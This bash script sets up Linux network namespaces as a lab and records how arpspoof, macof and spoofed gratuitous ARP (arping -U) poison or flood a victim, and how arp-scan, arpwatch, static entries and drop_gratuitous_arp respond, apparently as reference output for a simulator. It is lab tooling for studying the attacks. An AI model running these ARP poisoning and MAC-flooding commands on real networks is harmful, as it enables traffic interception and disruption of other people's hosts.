#!/usr/bin/env bash
# Records the attack and detection tools of dsniff 2.4b1+debian-31 (arpspoof, macof), arp-scan 1.10.0 and
# arpwatch 2.1a15 against the real kernel. Run as root with those Debian packages, iproute2, iputils-arping and
# tcpdump installed. Builds network namespaces spf-host (bridge br0 172.28.0.1/16, the gateway), spf-n1 172.28.0.11
# (the victim), spf-n2 172.28.0.12 (the attacker) and spf-n3 172.28.0.13, writes <scenario>.out (each command under
# a "$ node: command" line, its stdout, then its stderr after "--- stderr", then its exit status) and
# <scenario>.tcpdump (tcpdump -nn -e of the victim's capture), and deletes the namespaces.
set -u
cd "$(dirname "$0")"
. ./lab.sh
T=$(mktemp -d)
run() { echo "\$ $1: ${*:2}"; ns "$@" >$T/o 2>$T/e; rc=$?; cat $T/o; if [ -s $T/e ]; then echo "--- stderr"; cat $T/e; fi; echo "[exit $rc]"; }
# a command in the background: started now, reported by fin (its output, once it has ended)
bg() { id=$1; shift; ip netns exec "$P-$1" "${@:2}" >$T/$id.o 2>$T/$id.e & echo $! >$T/$id.pid; echo "\$ $1: ${*:2} &"; }
fin() { wait $(cat $T/$1.pid); rc=$?; echo "\$ [$1 ended]"; cat $T/$1.o; if [ -s $T/$1.e ]; then echo "--- stderr"; cat $T/$1.e; fi; echo "[exit $rc]"; }
flush() { for n in host n1 n2 n3; do ns $n ip neigh flush all; done; }
cap() { ip netns exec $P-n1 tcpdump -i eth0 -U -w $T/$1.pcap arp or icmp or udp 2>/dev/null & echo $! >$T/cap.pid; sleep 1; }
capend() { sleep 0.5; kill -INT $(cat $T/cap.pid); wait $(cat $T/cap.pid) 2>/dev/null; tcpdump -nn -e -r $T/$1.pcap 2>/dev/null > $1.tcpdump; }

teardown; setup
{ run n2 timeout -s INT 8 arpspoof -i eth0 -t 172.28.0.99 172.28.0.1; run n2 timeout -s INT 8 arpspoof -i eth0 -r -t 172.28.0.11 172.28.0.98
  run n2 arpspoof; run n2 arpspoof -x; run n2 arpspoof -V; run n2 arpspoof -i eth0 -r 172.28.0.1
  run n2 arpspoof -i eth0 -c bogus 172.28.0.1; run n2 arpspoof -i eth0 -t 172.28.0.11 nosuchhost
  run n2 arpspoof -i eth9 172.28.0.1; run n2 arpspoof -i eth0 172.28.0.1 172.28.0.11
  run n2 macof -h; run n2 macof -x; run n2 macof -i eth0 -n; run n2 macof -i eth9 -n 1
  run n2 arp-scan; run n2 arp-scan --bogus; run n2 arp-scan -I eth9 172.28.0.1; run n2 arp-scan -I eth0 nosuchhost
  run n2 arpwatch -h; run n2 arpwatch -x; run n2 arp-scan -z; run n2 arp-scan -I; run n2 arp-scan --interface; run n2 arp-scan --retry; } > usage.out
arp-scan --help > arp_scan_help.txt  # also arplab-core/src/main/resources/io/arplab/tools/arp-scan-help.txt
# arpspoof against n1's entry for the gateway: poisoned while it runs, restored after Ctrl-C
flush; cap arpspoof; { run n1 ping -c1 -W1 -q 172.28.0.1; run n1 ip neigh show 172.28.0.1
  bg spoof n2 timeout -s INT 6 arpspoof -i eth0 -t 172.28.0.11 172.28.0.1; sleep 3
  run n1 ip neigh show 172.28.0.1; fin spoof; run n1 ip neigh show 172.28.0.1; run n2 ip neigh; } > arpspoof.out; capend arpspoof
# the same with a static entry on the victim: nothing changes
flush; { run n1 ip neigh replace 172.28.0.1 lladdr 02:42:8e:ff:44:b3 dev eth0 nud permanent
  bg spoof n2 timeout -s INT 2.5 arpspoof -i eth0 -t 172.28.0.11 172.28.0.1; sleep 2
  run n1 ip neigh show 172.28.0.1; fin spoof; run n1 ip neigh del 172.28.0.1 dev eth0; } > arpspoof_static.out
# without -t: broadcast replies to every host
flush; { run n1 ping -c1 -W1 -q 172.28.0.1; run n3 ping -c1 -W1 -q 172.28.0.1
  bg spoof n2 timeout -s INT 3 arpspoof -i eth0 172.28.0.1; sleep 2.5
  run n1 ip neigh show 172.28.0.1; run n3 ip neigh show 172.28.0.1; fin spoof; } > arpspoof_all.out
# arpwatch on the victim while the attacker poisons it, then while the gateway's MAC changes back
flush; rm -f $T/arp.dat; touch $T/arp.dat; { bg watch n1 timeout -s INT 9 arpwatch -d -N -i eth0 -f $T/arp.dat; sleep 1
  run n1 ping -c1 -W1 -q 172.28.0.1; run n2 ping -c1 -W1 -q 172.28.0.11; sleep 1
  bg spoof n2 timeout -s INT 3 arpspoof -i eth0 -t 172.28.0.11 172.28.0.1; sleep 4; fin spoof; fin watch; } > arpwatch.out
cp $T/arp.dat arpwatch.dat
# arp-scan of a range and of a list, with retries and an interval
flush; cap arp_scan; { run n1 arp-scan -I eth0 172.28.0.0/28; run n1 arp-scan -I eth0 --retry=1 --interval=10 172.28.0.12 172.28.0.99 172.28.0.1
  run n1 arp-scan -I eth0 -q 172.28.0.12; } > arp_scan.out; capend arp_scan
# macof: random sources flood the bridge's FDB
flush; ip netns exec $P-n2 tcpdump -i eth0 -U -w $T/macof.pcap 2>/dev/null & echo $! >$T/cap.pid; sleep 1
{ run host bridge fdb show br br0 dynamic; run n2 macof -i eth0 -n 5
  run host sh -c "bridge fdb show br br0 dynamic | grep -v -e 02:42:ac -e permanent | wc -l"; } > macof.out
sleep 0.5; kill -INT $(cat $T/cap.pid); wait $(cat $T/cap.pid); tcpdump -nn -e -xx -r $T/macof.pcap 2>/dev/null > macof.tcpdump
# a gratuitous ARP claiming the gateway's address (arping -U from the attacker, nonlocal bind) with and without
# drop_gratuitous_arp, and arp_accept for a host with no entry
flush; { ns n2 sysctl -qw net.ipv4.ip_nonlocal_bind=1; run n1 ping -c1 -W1 -q 172.28.0.1; run n3 ip neigh show 172.28.0.1
  run n2 arping -U -c1 -I eth0 -s 172.28.0.1 172.28.0.1; run n1 ip neigh show 172.28.0.1; run n3 ip neigh show 172.28.0.1
  run n1 ip neigh flush all; run n1 ping -c1 -W1 -q 172.28.0.1; run n1 sysctl -w net.ipv4.conf.eth0.drop_gratuitous_arp=1
  run n2 arping -U -c1 -I eth0 -s 172.28.0.1 172.28.0.1; run n1 ip neigh show 172.28.0.1
  run n3 sysctl -w net.ipv4.conf.eth0.arp_accept=1; run n2 arping -U -c1 -I eth0 -s 172.28.0.1 172.28.0.1
  run n3 ip neigh show 172.28.0.1; } > garp.out
teardown; rm -rf $T
